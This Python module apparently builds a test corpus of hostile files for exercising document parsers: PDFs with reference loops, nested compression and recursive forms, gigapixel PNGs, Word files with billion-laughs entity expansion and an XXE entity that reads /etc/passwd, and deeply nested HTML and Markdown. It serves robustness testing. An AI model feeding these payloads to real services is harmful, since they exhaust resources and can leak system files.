"""Writes files that hurt whoever reads them: small ones that grow, loops, lies, and depths."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from functools import partial
from itertools import pairwise

_DOCUMENT_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
_RELATIONSHIP = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"
_WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def pdf(bodies: list[bytes], end: bytes = b"") -> bytes:
    """Return a PDF of objects numbered from 1; `end` stands in place of the right table and trailer."""
    data, places = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(bodies, start=1):
        places.append(len(data))
        data += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    size, start = len(bodies) + 1, len(data)
    right = b"xref\n0 %d\n0000000000 65535 f \n%btrailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n"
    return bytes(data) + (end or right % (size, table, size, start))


def page(content: bytes, resources: bytes = b"", entries: bytes = b"") -> list[bytes]:
    """Return the objects of a document of one page; further ones have numbers from 5 on."""
    return [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << %b >> /Contents 4 0 R >>"
        % resources,
        b"<< /Length %d %b >>\nstream\n%b\nendstream" % (len(content), entries, content),
    ]


def xref_loop() -> bytes:
    """Return a PDF whose table of objects names itself as the one before."""
    start = len(b"%PDF-1.7\n") + sum(len(body) + len(b"1 0 obj\n\nendobj\n") for body in page(b""))
    return pdf(
        page(b""),
        b"xref\n0 1\n0000000000 65535 f \ntrailer << /Size 5 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF"
        % (start, start),
    )


def nested_flate(depth: int) -> bytes:
    """Return a PDF whose page unpacks to 134 MB, through as many filters as `depth` says."""
    data = b"q Q " * 2**25
    for _ in range(depth):
        data = zlib.compress(data, 9)
    return pdf(page(data, entries=b"/Filter [%b]" % (b"/FlateDecode " * depth)))


def forms_that_draw_forms(levels: int, each: int) -> bytes:
    """Return a PDF that draws each ** levels letters in a few lines: a loop that ends in years."""
    resources = (
        b"/XObject << /X 5 0 R >> /Font << /F << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >>"
    )
    objects = page(b"/X Do", resources)
    for level in range(levels):
        draws = b"/X Do " * each if level < levels - 1 else b"BT /F 9 Tf (a) Tj ET"
        inner = (
            b"/XObject << /X %d 0 R >> /Font << /F << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >>"
        )
        form = b"<< /Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources << %b >> /Length %d >>"
        objects.append(form % (inner % (level + 6), len(draws)) + b"\nstream\n" + draws + b"\nendstream")
    return pdf(objects)


def deep_pages(depth: int) -> bytes:
    """Return a PDF whose tree of pages is a rope."""
    nodes = [
        b"<< /Type /Pages /Kids [%d 0 R] /Count 1 /Parent %d 0 R >>" % (n + 3, n + 1) for n in range(depth)
    ]
    last = b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 9 9] >>" % (depth + 1)
    return pdf([b"<< /Type /Catalog /Pages 2 0 R >>", *nodes, last])


def many_pages(count: int) -> bytes:
    """Return a PDF of one page listed so many times."""
    kids = b"3 0 R " * count
    objects = page(b"BT ET")
    objects[1] = b"<< /Type /Pages /Kids [%b] /Count %d >>" % (kids, count)
    return pdf(objects)


def pages_in_a_ring() -> bytes:
    """Return a PDF whose tree of pages holds itself."""
    return pdf([page(b"")[0], b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 1000000 >>"])


def length_lie() -> bytes:
    """Return a PDF whose page claims to be 4 GB long."""
    objects = page(b"BT ET")
    objects[3] = b"<< /Length 4294967290 >>\nstream\nBT ET\nendstream"
    return pdf(objects)


def huge_picture_in_pdf() -> bytes:
    """Return a PDF with a picture of 1.6 gigapixels."""
    pixels = zlib.compress(b"\0" * (40_000 * 40_000 // 8), 9)
    form = b"<< /Type /XObject /Subtype /Image /Width 40000 /Height 40000 /ColorSpace /DeviceGray"
    image = form + b" /BitsPerComponent 1 /Filter /FlateDecode /Length %d >>\nstream\n%b\nendstream"
    objects = page(b"600 0 0 700 0 0 cm /Im Do", b"/XObject << /Im 5 0 R >>")
    return pdf([*objects, image % (len(pixels), pixels)])


def huge_png(side: int) -> bytes:
    """Return a black picture of side x side pixels."""
    packer, rows = zlib.compressobj(9), []
    for _ in range(side):
        rows.append(packer.compress(b"\0" * (1 + side // 8)))
    data = b"".join(rows) + packer.flush()

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def docx(body: str, prologue: str = "") -> bytes:
    """Return a Word document whose body is `body`."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr(
            "[Content_Types].xml",
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" '
            'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            f'<Override PartName="/word/document.xml" ContentType="{_DOCUMENT_TYPE}"/></Types>',
        )
        archive.writestr(
            "_rels/.rels",
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="r" Type="{_RELATIONSHIP}" Target="word/document.xml"/></Relationships>',
        )
        document = f'<w:document xmlns:w="{_WORD}"><w:body>{body}</w:body></w:document>'
        archive.writestr("word/document.xml", f'<?xml version="1.0"?>{prologue}{document}')
    return out.getvalue()


def entities() -> bytes:
    """Return a Word document whose text is a billion words by ten entities."""
    names = "abcdefghij"
    lines = ['<!ENTITY a "ha ha ha ha ha ha ha ha ha ha ">']
    lines += [f'<!ENTITY {to} "{f"&{of};" * 10}">' for of, to in pairwise(names)]
    return docx("<w:p><w:r><w:t>&j;</w:t></w:r></w:p>", f"<!DOCTYPE d [{''.join(lines)}]>")


def file_entity() -> bytes:
    """Return a Word document that asks for a file of the machine that reads it."""
    prologue = '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    return docx("<w:p><w:r><w:t>before &x; after</w:t></w:r></w:p>", prologue)


_WORDS = "<w:p><w:r><w:t>word</w:t></w:r></w:p>"
BOMBS: dict[str, Callable[[], bytes]] = {
    "xref-loop.pdf": xref_loop,
    "length-lie.pdf": length_lie,
    "flate-1000.pdf": partial(nested_flate, 1),
    "flate-1000000.pdf": partial(nested_flate, 2),
    "million-objects.pdf": lambda: pdf([*page(b"BT ET"), *[b"null"] * 1_000_000]),
    "deep-pages.pdf": partial(deep_pages, 100_000),
    "ring-of-pages.pdf": pages_in_a_ring,
    "12000-pages.pdf": partial(many_pages, 12_000),
    "forms-in-a-ring.pdf": lambda: forms_that_draw_forms(1, 1).replace(
        b"BT /F 9 Tf (a) Tj ET", b"/X Do" + b" " * 15
    ),
    "endless-forms.pdf": partial(forms_that_draw_forms, 12, 12),
    "gigapixels.pdf": huge_picture_in_pdf,
    "gigapixels.png": partial(huge_png, 60_000),
    "cut.png": lambda: huge_png(500)[:-40],
    "paragraphs.docx": lambda: docx(_WORDS * 4_000_000),
    "deep.docx": lambda: docx(
        "<w:sdt><w:sdtContent>" * 100_000 + _WORDS + "</w:sdtContent></w:sdt>" * 100_000
    ),
    "entities.docx": entities,
    "file.docx": file_entity,
    "deep.html": lambda: b"<div>" * 1_000_000 + b"deep",
    "tables.html": lambda: b"<table><tr><td>" * 20_000 + b"deep",
    "attributes.html": lambda: b"<p " + b"a=b " * 5_000_000 + b">text",
    "long-line.txt": lambda: b"word " * 20_000_000,
    "brackets.md": lambda: b"# " + b"[" * 5_000_000 + b"\n" + b"[" * 280 + b"](\n" * 200_000,
}


def write_all(folder: str) -> Iterator[str]:
    """Write every bomb into `folder`, and yield the paths."""
    for name, make in BOMBS.items():
        path = f"{folder}/{name}"
        with open(path, "wb") as file:
            file.write(make())
        yield path
